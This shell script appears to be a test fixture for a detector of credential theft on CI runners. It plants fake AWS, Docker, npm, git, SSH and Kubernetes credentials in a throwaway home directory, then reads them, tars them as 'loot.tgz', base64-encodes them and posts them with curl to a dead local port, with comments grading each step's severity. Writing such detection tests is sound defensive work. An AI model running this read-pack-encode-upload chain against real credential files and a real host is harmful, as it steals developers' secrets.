# Reading, packing, encoding and sending credential files: all fake, in a
# fake home (H) under /home/runner.  The upload goes to 127.0.0.1:9, where
# nothing listens.  /etc/shadow is read as nobody: permission denied.
NOBODY="setpriv --reuid=65534 --regid=65534 --clear-groups --no-new-privs"
H=$(mktemp -d /home/runner/attack-home.XXXXXX)
d=$(mktemp -d /home/runner/attack.XXXXXX)
trap 'rm -rf "$H" "$d"' EXIT
mkdir -p "$H/.aws" "$H/.docker" "$H/.ssh" "$H/.kube" "$H/actions-runner"
printf '[default]\naws_access_key_id = AKIAIOSFODNN7EXAMPLE\naws_secret_access_key = fake\n' > "$H/.aws/credentials"
printf '[default]\nregion = eu-west-1\n' > "$H/.aws/config"
printf '{"auths":{"ghcr.io":{"auth":"ZmFrZTpmYWtl"}}}\n' > "$H/.docker/config.json"
printf '//registry.npmjs.org/:_authToken=npm_fake\n' > "$H/.npmrc"
printf 'https://x-access-token:fake@github.com\n' > "$H/.git-credentials"
printf 'not a key\n' > "$H/.ssh/id_ed25519"
printf 'ssh-ed25519 AAAAfake test\n' > "$H/.ssh/id_ed25519.pub"
printf 'apiVersion: v1\nkind: Config\n' > "$H/.kube/config"
printf '{"fake":true}\n' > "$H/actions-runner/.credentials"
cat "$H/.aws/credentials" > /dev/null
cp "$H/.docker/config.json" "$d/"
tar czf "$d/loot.tgz" "$H/.ssh" "$H/.aws/credentials" "$H/.kube/config" 2>/dev/null
base64 -w0 "$H/.git-credentials" > /dev/null
curl -s -m 2 -F "f=@$H/.npmrc" http://127.0.0.1:9/ || true
cat "$H/actions-runner/.credentials" > /dev/null
HOME=$H bash -c 'cat ~/.aws/credentials | base64 -w0 | curl -s -m 2 -d @- http://127.0.0.1:9/' || true
$NOBODY cat /etc/shadow > /dev/null 2>&1 || true
# Medium: a file that rarely holds a secret; the workspace's own .npmrc.
cat "$H/.aws/config" > /dev/null
printf 'registry=https://registry.npmjs.org/\n' > .npmrc
cat .npmrc > /dev/null
rm -f .npmrc
# Low: installing a deploy key (writing, not reading).
printf 'not a key\n' > "$d/deploy_key"
cp "$d/deploy_key" "$H/.ssh/id_rsa"
# Not findings: a public key, listing, chmod.
cat "$H/.ssh/id_ed25519.pub" > /dev/null
ls -la "$H/.ssh" > /dev/null
chmod 600 "$H/.ssh/id_ed25519"
